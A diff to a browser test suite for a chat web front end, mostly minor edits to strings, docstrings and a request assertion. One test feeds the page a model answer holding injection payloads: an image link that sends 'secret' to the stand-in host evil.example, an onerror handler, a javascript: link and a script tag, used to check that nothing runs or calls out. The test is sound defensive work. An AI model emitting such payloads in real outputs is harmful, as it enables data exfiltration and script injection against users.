@@ -245,7 +245,8 @@ def test_a_hostile_answer_calls_nobody(engine: Served, visitor: Visitor) -> None
     engine.say(
         "The starter is fed hourly by seventeen robots from Mars. [1] ![x](https://evil.example/a.png?d=secret) "
         "<img src=https://evil.example/b.png onerror=\"document.title='owned'\"> "
-        "[press](https://evil.example/c) [run](javascript:document.title='owned')\n\n<script>document.title='owned'</script>\n"
+        "[press](https://evil.example/c) [run](javascript:document.title='owned')\n\n"
+        "<script>document.title='owned'</script>\n"
     )
     page = visitor.open(engine)
     ask(page, QUESTION)
@@ -267,7 +268,7 @@ def test_a_dropped_file_comes_in_and_goes(library: Served, visitor: Visitor) -> 
     dropped = page.evaluate_handle(
         """() => {
             const data = new DataTransfer();
-            const text = "# Kites of paper\\n\\nA kite of paper flies on a light wind, held by a thin line of linen.\\n";
+            const text = "# Kites of paper\\n\\nA kite of paper flies on a light wind, held by a line of linen.\\n";
             data.items.add(new File([text], "kites.md", {type: "text/markdown"}));
             return data;
         }"""
@@ -357,7 +358,7 @@ def test_too_many_requests(library: Served, visitor: Visitor) -> None:
 
 
 def test_an_answer_that_breaks_off(library: Served, visitor: Visitor) -> None:
-    """An error in the stream, a stream that ends early and a lost connection each keep what came and offer another try."""
+    """An error in the stream, an early end and a lost connection each keep what came and offer another try."""
     visitor.allowed_errors.append("net::ERR")
     page = visitor.context(library).new_page()
     begun = "data: " + json.dumps({"choices": [{"index": 0, "delta": {"content": "Half an ans"}}]}) + "\n\n"
@@ -402,5 +403,5 @@ def test_the_twin_that_answers_is_chosen(library: Served, visitor: Visitor) -> N
     page.get_by_label("Who answers").select_option("alpha")
     with page.expect_request("**/v1/chat/completions") as asked:
         ask(page, QUESTION)
-    assert asked.value.post_data_json["model"] == "alpha"
+    assert json.loads(asked.value.post_data or "")["model"] == "alpha"
     answered(page)
